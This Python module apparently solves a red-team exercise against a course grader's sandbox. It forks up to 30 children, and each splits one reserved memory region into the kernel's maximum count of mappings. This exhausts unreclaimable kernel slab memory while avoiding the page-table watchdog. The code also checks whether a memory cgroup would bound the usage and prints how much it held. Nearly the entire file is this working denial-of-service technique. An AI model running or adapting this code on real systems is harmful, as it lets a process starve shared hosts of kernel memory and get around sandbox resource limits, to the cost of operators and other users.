import ctypes
import os
import signal
import struct
import time

MIB = 1 << 20
CAP = 320 * MIB  # one and a quarter times what the zygote's watch allows page tables (256 MiB): the bar
MOST_CHILDREN = 30  # forked one after another until the process limit refuses one, or this many
PAGE = 4096
SECONDS = 7.0  # the red team's grader gives one test's calls 10 s
HOLD_S = 1.0  # held this long after the last child is done: 20 looks of the watch (every 50 ms)
VMA_BYTES = 200  # a mapping's vm_area_struct and its share of the maple tree, at least (where meminfo is closed)
PROT_NONE, PROT_READ = 0, 1
MAP_PRIVATE, MAP_ANONYMOUS, MAP_NORESERVE = 0x02, 0x20, 0x4000
GROUP_PREFIX = "cs336-worker-"  # the memory group the grader makes for a worker, where it can
_outcome = []  # (held bytes, what happened), once per process: every later call answers the same

_libc = ctypes.CDLL(None, use_errno=True)
_libc.mmap.restype = ctypes.c_void_p
_libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
_libc.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
_FAILED = ctypes.c_void_p(-1).value


def unreclaimable_slab():
    """SUnreclaim of /proc/meminfo in bytes (where the kernel keeps mappings' structures); None where unread."""
    try:
        with open("/proc/meminfo") as handle:
            for line in handle:
                if line.startswith("SUnreclaim:"):
                    return int(line.split()[1]) * 1024
    except (OSError, ValueError, IndexError):
        return None
    return None


def _split(deadline):
    """One reserved region (PROT_NONE, no memory), every other page of it made readable: each change splits
    the region, so the process holds a mapping per page up to the kernel's limit (vm.max_map_count, 65,530),
    none of them touched (no page, no page table). Mappings held."""
    with open("/proc/sys/vm/max_map_count") as handle:
        most = int(handle.read())
    base = _libc.mmap(None, most * PAGE, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0)
    if base in (None, _FAILED):
        return 0
    for i in range(1, most // 2):
        if _libc.mprotect(base + 2 * i * PAGE, PAGE, PROT_READ) != 0 or time.monotonic() > deadline:
            break
    with open("/proc/self/maps") as handle:
        return sum(1 for _ in handle)


def _child(writer, deadline):
    """In a forked child: split, say how many mappings it holds, then sleep until killed."""
    try:
        held = _split(deadline)
    except BaseException:  # noqa: BLE001 - the parent must hear from every child
        held = 0
    os.write(writer, struct.pack("<Q", held))
    while True:
        time.sleep(60)


def hold_mappings(seconds=SECONDS):
    """Children forked one after another, each holding as many mappings as the kernel allows a process;
    (bytes held, what happened): SUnreclaim before and after (VMA_BYTES a mapping where unread)."""
    start = time.monotonic()
    deadline, before = start + seconds, unreclaimable_slab()
    children, mappings, stopped = [], 0, "made them all"
    reader, writer = os.pipe()
    try:
        while len(children) < MOST_CHILDREN and time.monotonic() < deadline:
            try:
                pid = os.fork()
            except OSError as error:
                stopped = f"fork: {error.strerror}"
                break
            if pid == 0:
                os.close(reader)
                try:
                    _child(writer, deadline)
                finally:
                    os._exit(0)
            children.append(pid)
            got = os.read(reader, 8)
            if len(got) < 8:
                stopped = "a child died before it said what it held"
                break
            mappings += struct.unpack("<Q", got)[0]
        time.sleep(HOLD_S)
        after = unreclaimable_slab()
        alive = sum(1 for pid in children if os.waitpid(pid, os.WNOHANG) == (0, 0))
        measured = before is not None and after is not None
        held = after - before if measured else mappings * VMA_BYTES
        outcome = (f"{len(children)} children ({alive} alive after {HOLD_S:g} s more; {stopped}), {mappings:,} "
                   f"mappings, SUnreclaim {'+' if measured else 'unread; estimated '}{held / MIB:,.0f} MiB, "
                   f"{time.monotonic() - start:.1f} s")
        if alive < len(children):
            held = 0
    finally:
        for pid in children:
            try:
                os.kill(pid, signal.SIGKILL)
                os.waitpid(pid, 0)
            except OSError:
                pass
        os.close(reader)
        os.close(writer)
    return held, outcome


def memory_group():
    """The memory cgroup the grader made for this worker, where /proc/self/cgroup names one (None else)."""
    try:
        with open("/proc/self/cgroup") as handle:
            for line in handle:
                _, controllers, path = line.rstrip("\n").split(":", 2)
                if (controllers == "" or "memory" in controllers.split(",")) and GROUP_PREFIX in path:
                    return path
    except (OSError, ValueError):
        return None
    return None


def attack(args):
    """Hold the mappings once; if they held past the cap while every child lived on under the watch, outside
    a memory group of the worker's own, answer honestly (full marks on Problem 1 is the attack getting
    through), else fail saying what stopped it."""
    if not _outcome:
        _outcome.append(hold_mappings())
    held, happened = _outcome[0]
    group = memory_group()
    if group is not None:
        raise MemoryError(f"held {held / MIB:,.0f} MiB of kernel memory in mappings ({happened}), but the kernel "
                          f"charges them to the worker's memory group {group}, which bounds them")
    if held < CAP:
        raise MemoryError(f"held only {held / MIB:,.0f} MiB of kernel memory in mappings ({happened})")
    if len(_outcome) == 1:  # said once per process, in the output of the test that made it
        _outcome.append("said")
        print(f"held {held / MIB:,.0f} MiB of kernel memory in mappings ({happened})", flush=True)
    return None  # the function's own body runs on
